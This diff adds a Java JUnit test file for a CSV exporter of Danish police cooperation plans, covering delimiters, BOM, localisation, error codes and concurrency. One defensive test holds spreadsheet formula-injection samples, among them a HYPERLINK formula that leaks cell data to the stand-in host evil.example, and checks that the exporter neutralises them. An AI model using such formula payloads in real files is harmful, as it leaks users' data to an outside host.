@@ -1,0 +1,251 @@
+package dk.samarbejdsplan.export.csv;
+
+import static dk.samarbejdsplan.export.csv.CsvExpectations.FORUM_HEADERS_DA;
+import static dk.samarbejdsplan.export.csv.CsvExpectations.FORUM_HEADERS_EN;
+import static dk.samarbejdsplan.export.csv.CsvExpectations.MEETING_HEADERS_DA;
+import static dk.samarbejdsplan.export.csv.CsvExpectations.MEETING_HEADERS_EN;
+import static dk.samarbejdsplan.export.csv.CsvExpectations.NUMBER_COLUMNS;
+import static dk.samarbejdsplan.export.csv.CsvExpectations.assertTable;
+import static dk.samarbejdsplan.export.csv.CsvExpectations.export;
+import static dk.samarbejdsplan.export.csv.CsvExpectations.exporter;
+import static dk.samarbejdsplan.export.csv.CsvExpectations.forumRows;
+import static dk.samarbejdsplan.export.csv.CsvExpectations.meetingRows;
+import static dk.samarbejdsplan.export.csv.CsvExpectations.parse;
+import static org.junit.jupiter.api.Assertions.assertArrayEquals;
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertThrows;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import dk.samarbejdsplan.export.ExportOptions;
+import dk.samarbejdsplan.export.ExportOutput;
+import dk.samarbejdsplan.export.PlanExporter;
+import dk.samarbejdsplan.model.CooperationPlan;
+import dk.samarbejdsplan.model.Language;
+import java.io.ByteArrayOutputStream;
+import java.nio.charset.StandardCharsets;
+import java.util.List;
+import java.util.Set;
+import java.util.concurrent.ExecutorService;
+import java.util.concurrent.Executors;
+import java.util.concurrent.Future;
+import java.util.stream.Stream;
+import org.apache.commons.csv.CSVRecord;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.Arguments;
+import org.junit.jupiter.params.provider.MethodSource;
+
+class CsvExporterTest {
+
+    static Stream<Arguments> variants() {
+        return Stream.of(',', ';').flatMap(d -> Stream.of(false, true).flatMap(bom -> Stream.of(Language.DA,
+                Language.EN).map(lang -> Arguments.of(d, bom, lang))));
+    }
+
+    private static ExportOptions options(char delimiter, boolean bom, Language language, String output) {
+        return ExportOptions.builder().language(language).output(output)
+                .formatOptions(new CsvOptions(delimiter, bom)).build();
+    }
+
+    @ParameterizedTest(name = "delimiter {0}, BOM {1}, {2}")
+    @MethodSource("variants")
+    void forumsTableRoundTripsThroughCommonsCsv(char delimiter, boolean bom, Language language) {
+        for (CooperationPlan plan : List.of(HandBuiltPlans.excerpt2007(), HandBuiltPlans.hostile())) {
+            String csv = export(plan, options(delimiter, bom, language, "main"));
+            assertTable(parse(csv, delimiter, bom), language == Language.DA ? FORUM_HEADERS_DA : FORUM_HEADERS_EN,
+                    forumRows(plan, language), NUMBER_COLUMNS);
+        }
+    }
+
+    @ParameterizedTest(name = "delimiter {0}, BOM {1}, {2}")
+    @MethodSource("variants")
+    void meetingsTableRoundTripsThroughCommonsCsv(char delimiter, boolean bom, Language language) {
+        for (CooperationPlan plan : List.of(HandBuiltPlans.excerpt2007(), HandBuiltPlans.hostile())) {
+            String csv = export(plan, options(delimiter, bom, language, "meetings"));
+            assertTable(parse(csv, delimiter, bom),
+                    language == Language.DA ? MEETING_HEADERS_DA : MEETING_HEADERS_EN,
+                    meetingRows(plan, language), Set.of());
+        }
+    }
+
+    @Test
+    void excerptOf2007HasTheValuesOfTheSeed() {
+        List<CSVRecord> records = parse(export(HandBuiltPlans.excerpt2007(), ExportOptions.defaults()), ',',
+                false);
+        CSVRecord kredsraad = records.get(1);
+        assertEquals("kategori_nummer", records.get(0).get(0));
+        assertEquals("1", kredsraad.get(0));
+        assertEquals("Kontakt med lokalsamfundet m.v.", kredsraad.get(1));
+        assertEquals("Kredsrådet for Midt- og Vestsjællands Politi", kredsraad.get(3));
+        assertEquals("Min. 4", kredsraad.get(6));
+        assertEquals("mindst 4 møder om året", kredsraad.get(7));
+        assertEquals("4", kredsraad.get(8));
+        assertEquals("", kredsraad.get(9), "no maximum for Min. 4");
+        assertEquals("OTHER", kredsraad.get(10));
+        CSVRecord lokalraad = records.get(2);
+        assertEquals("Lederne af lokalpolitienhederne; repræsentanter for kommunerne; repræsentanter for det "
+                + "øvrige lokalsamfund", lokalraad.get(5));
+        assertEquals("Min. 4 (2 i 2007)", lokalraad.get(6));
+        assertEquals("mindst 4 møder om året (2 i 2007)", lokalraad.get(7));
+        assertEquals("2", lokalraad.get(16));
+        assertEquals("Der er udarbejdet en handleplan for arbejdet i hvert enkelt lokalråd.\n\n"
+                + "I 2007 vil lokalrådene hovedsageligt have til opgave at konstituere sig.", lokalraad.get(13));
+        CSVRecord region = records.get(4);
+        assertEquals("2", region.get(8));
+        assertEquals("3", region.get(9));
+        assertEquals("2 til 3 møder om året", region.get(7));
+        assertEquals("WEEKLY", records.get(5).get(10));
+        assertEquals("52 møder om året (ugentligt)", records.get(5).get(7));
+        assertEquals("IRREG", records.get(3).get(10));
+        assertEquals("", records.get(3).get(8));
+
+        List<CSVRecord> en = parse(export(HandBuiltPlans.excerpt2007(), ExportOptions.builder()
+                .language(Language.EN).build()), ',', false);
+        assertEquals("at least 4 meetings a year (2 in 2007)", en.get(2).get(7));
+        assertEquals("Min. 4 (2 i 2007)", en.get(2).get(6), "the canonical text stays the plan's notation");
+    }
+
+    @Test
+    void meetingsTableHasIsoDatesAndStatus() {
+        List<CSVRecord> da = parse(export(HandBuiltPlans.excerpt2007(), ExportOptions.builder()
+                .output("meetings").build()), ',', false);
+        assertEquals(List.of("forum_id", "forum_navn", "kommune", "kommunekode", "dato", "status"), da.get(0).toList());
+        assertEquals(List.of("lokalraadene", "Lokalrådene i de enkelte kommuner", "Greve", "253", "2007-10-26", ""),
+                da.get(1).toList());
+        assertEquals("2007-11-14", da.get(2).get(4));
+        assertEquals(List.of("lokalraadene", "Lokalrådene i de enkelte kommuner", "Holbæk", "316", "2007-09-26",
+                "afholdt"), da.get(3).toList());
+        assertEquals("planlagt", da.get(4).get(5));
+        assertEquals(5, da.size());
+        List<CSVRecord> en = parse(export(HandBuiltPlans.excerpt2007(), ExportOptions.builder().language(Language.EN)
+                .output("meetings").build()), ',', false);
+        assertEquals("held", en.get(3).get(5));
+        assertEquals("planned", en.get(4).get(5));
+    }
+
+    @Test
+    void hostileCellsAreNeutralisedAndQuotedInTheRawText() {
+        String csv = export(HandBuiltPlans.hostile(), ExportOptions.defaults());
+        assertTrue(csv.contains(",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Klik\"\")\","), csv);
+        assertTrue(csv.contains(",\"'+1\","));
+        assertTrue(csv.contains(",\"'-2\","));
+        assertTrue(csv.contains(",\"'@SUM(A1:A9)\","));
+        assertTrue(csv.contains(",\"'\t=1\","));
+        assertTrue(csv.contains(",\"'\r=1\","));
+        assertTrue(csv.contains(",a;b,"), "a ; needs no quotes when , is the delimiter");
+        assertTrue(csv.contains(",\"a,b\","));
+        assertTrue(csv.contains(",\" leading space\","));
+        assertTrue(csv.contains(",\"trailing space \","));
+        assertTrue(csv.contains(",\"say \"\"hi\"\"\","));
+        assertTrue(csv.contains(",'already quoted,"), "a ' not followed by a formula character stays bare");
+        assertTrue(csv.contains(",æøå ÆØÅ,"));
+        // the category number stays a bare number even though the category title is neutralised
+        assertTrue(csv.contains("\r\n1,\"'=HYPERLINK(\"\"x\"\")\",f0,"), csv);
+        assertTrue(csv.contains("\r\n2,\"'-2\",f10,"), csv);
+        String semicolon = export(HandBuiltPlans.hostile(), ExportOptions.builder()
+                .formatOptions(CsvOptions.EXCEL_DA).build());
+        assertTrue(semicolon.contains(";\"a;b\";"));
+        assertTrue(semicolon.contains(";a,b;"), "a comma needs no quotes when ; is the delimiter");
+        // meetings: a kommunekode starting with - is a text cell, neutralised
+        String meetings = export(HandBuiltPlans.hostile(), ExportOptions.builder().output("meetings").build());
+        assertTrue(meetings.contains(",\"'-12\",2007-01-01,"), meetings);
+    }
+
+    @Test
+    void quotesBeforeAFormulaCharacterAreReversible() {
+        CooperationPlan plan = HandBuiltPlans.excerpt2007();
+        CooperationPlan tricky = plan.toBuilder().categories(List.of(plan.categories().get(0).withForums(List.of(
+                plan.categories().get(0).forums().get(0).toBuilder().name("'=1").topic("''+2").build())))).build();
+        String csv = export(tricky, ExportOptions.defaults());
+        assertTrue(csv.contains(",\"''=1\",\"'''+2\","), csv);
+        assertTable(parse(csv, ',', false), FORUM_HEADERS_DA, forumRows(tricky, Language.DA), NUMBER_COLUMNS);
+    }
+
+    @Test
+    void bomIsTheUtf8ByteOrderMarkInBytes() throws Exception {
+        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
+        exporter().export(HandBuiltPlans.excerpt2007(), ExportOptions.builder().formatOptions(CsvOptions.EXCEL_DA)
+                .build(), bytes);
+        byte[] b = bytes.toByteArray();
+        assertArrayEquals(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF, 'k', 'a'}, java.util.Arrays.copyOf(b, 5));
+        String text = new String(b, StandardCharsets.UTF_8);
+        assertTrue(text.contains("Kredsrådet for Midt- og Vestsjællands Politi"));
+        ByteArrayOutputStream plain = new ByteArrayOutputStream();
+        exporter().export(HandBuiltPlans.excerpt2007(), ExportOptions.defaults(), plain);
+        assertEquals('k', plain.toByteArray()[0]);
+    }
+
+    @Test
+    void stringParametersSelectDelimiterAndBom() {
+        CooperationPlan plan = HandBuiltPlans.excerpt2007();
+        String csv = export(plan, ExportOptions.builder().parameter("csv.delimiter", ";").parameter("csv.bom", "true")
+                .build());
+        assertTrue(csv.startsWith("\uFEFFkategori_nummer;kategori_titel;"));
+        assertTable(parse(csv, ';', true), FORUM_HEADERS_DA, forumRows(plan, Language.DA), NUMBER_COLUMNS);
+        assertEquals(new CsvOptions(',', true), CsvOptions.from(ExportOptions.builder().parameter("csv.bom", "TRUE")
+                .build()));
+        assertEquals(CsvOptions.DEFAULT, CsvOptions.from(ExportOptions.defaults()));
+        // typed options win over parameters
+        String typed = export(plan, ExportOptions.builder().parameter("csv.delimiter", ";")
+                .formatOptions(CsvOptions.DEFAULT).build());
+        assertTrue(typed.startsWith("kategori_nummer,kategori_titel,"));
+    }
+
+    @Test
+    void badOptionsAreRefusedWithCodes() {
+        CooperationPlan plan = HandBuiltPlans.excerpt2007();
+        IllegalArgumentException e = assertThrows(IllegalArgumentException.class, () -> exporter().export(plan,
+                ExportOptions.builder().parameter("csv.delimiter", "|").build(), new StringBuilder()));
+        assertTrue(e.getMessage().startsWith("EXP-CSV-002") && e.getMessage().contains("csv.delimiter")
+                && e.getMessage().contains("'|'"), e.getMessage());
+        e = assertThrows(IllegalArgumentException.class, () -> exporter().export(plan,
+                ExportOptions.builder().parameter("csv.bom", "ja").build(), new StringBuilder()));
+        assertTrue(e.getMessage().startsWith("EXP-CSV-003") && e.getMessage().contains("csv.bom"), e.getMessage());
+        e = assertThrows(IllegalArgumentException.class, () -> new CsvOptions('\t', false));
+        assertTrue(e.getMessage().startsWith("EXP-CSV-002") && e.getMessage().contains("U+0009"), e.getMessage());
+        StringBuilder out = new StringBuilder();
+        e = assertThrows(IllegalArgumentException.class, () -> exporter().export(plan,
+                ExportOptions.builder().output("meeting").build(), out));
+        assertTrue(e.getMessage().startsWith("EXP-CSV-001") && e.getMessage().contains("'meeting'")
+                && e.getMessage().contains("main, meetings"), e.getMessage());
+        assertEquals("", out.toString(), "nothing written before the options are checked");
+    }
+
+    @Test
+    void describesItself() {
+        PlanExporter e = exporter();
+        assertEquals("csv", e.id());
+        assertEquals("text/csv", e.mediaType());
+        assertEquals("csv", e.fileExtension());
+        assertEquals(List.of(ExportOutput.MAIN, new ExportOutput("meetings", "-moeder")), e.outputs());
+        assertFalse(e.displayName().isBlank());
+    }
+
+    @Test
+    void emptyPlanHasOnlyHeaders() {
+        CooperationPlan empty = CooperationPlan.builder().district(dk.samarbejdsplan.model.PoliceDistrict.of("X"))
+                .year(2008).build();
+        assertEquals(String.join(",", FORUM_HEADERS_DA) + "\r\n", export(empty, ExportOptions.defaults()));
+        assertEquals(String.join(";", MEETING_HEADERS_EN) + "\r\n", export(empty, ExportOptions.builder()
+                .language(Language.EN).output("meetings").formatOptions(new CsvOptions(';', false)).build()));
+    }
+
+    @Test
+    void concurrentExportsGiveIdenticalOutput() throws Exception {
+        CooperationPlan plan = HandBuiltPlans.hostile();
+        String expected = export(plan, ExportOptions.defaults());
+        ExecutorService pool = Executors.newFixedThreadPool(4);
+        try {
+            List<Future<String>> results = new java.util.ArrayList<>();
+            for (int i = 0; i < 16; i++) {
+                results.add(pool.submit(() -> export(plan, ExportOptions.defaults())));
+            }
+            for (Future<String> r : results) {
+                assertEquals(expected, r.get());
+            }
+        } finally {
+            pool.shutdown();
+        }
+    }
+}
